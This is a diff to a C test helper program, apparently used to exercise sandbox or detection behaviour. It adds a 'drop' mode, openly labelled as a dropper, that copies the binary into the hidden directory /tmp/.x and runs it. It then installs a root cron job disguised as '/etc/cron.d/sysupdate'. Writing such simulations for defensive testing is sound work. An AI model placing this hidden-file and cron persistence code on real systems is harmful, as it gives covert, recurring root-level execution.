@@ -253,6 +253,29 @@ int main(int argc, char **argv) {
         printf("exfil_reply=%s\n", k > 0 ? "yes" : "no");
         return 0;
     }
+    if (!strcmp(mode, "drop")) {
+        /* A dropper: copy a payload (this very binary) to a hidden place, run it, and
+           leave a cron entry behind. */
+        mkdir("/tmp/.x", 0755);
+        int in = open("/proc/self/exe", O_RDONLY);
+        int out = open("/tmp/.x/payload", O_WRONLY | O_CREAT | O_TRUNC, 0755);
+        char buf[65536];
+        ssize_t n;
+        while ((n = read(in, buf, sizeof buf)) > 0) if (write(out, buf, n) != n) return 8;
+        close(in); close(out);
+        pid_t p = fork();
+        if (p == 0) { char *args[] = {"payload", "exit", "0", NULL}; execv("/tmp/.x/payload", args); _exit(127); }
+        int st = 0;
+        waitpid(p, &st, 0);
+        printf("payload=%d\n", WEXITSTATUS(st));
+        mkdir("/etc", 0755);
+        mkdir("/etc/cron.d", 0755);
+        int c = open("/etc/cron.d/sysupdate", O_WRONLY | O_CREAT | O_TRUNC, 0644);
+        const char *line = "* * * * * root /tmp/.x/payload\n";
+        if (write(c, line, strlen(line)) < 0) return 9;
+        close(c);
+        return 0;
+    }
     if (!strcmp(mode, "exit")) return atoi(argc > 2 ? argv[2] : "0");
     if (!strcmp(mode, "crash")) {
         /* Pid 1 ignores signals it sends itself; a fault's signal is forced. */
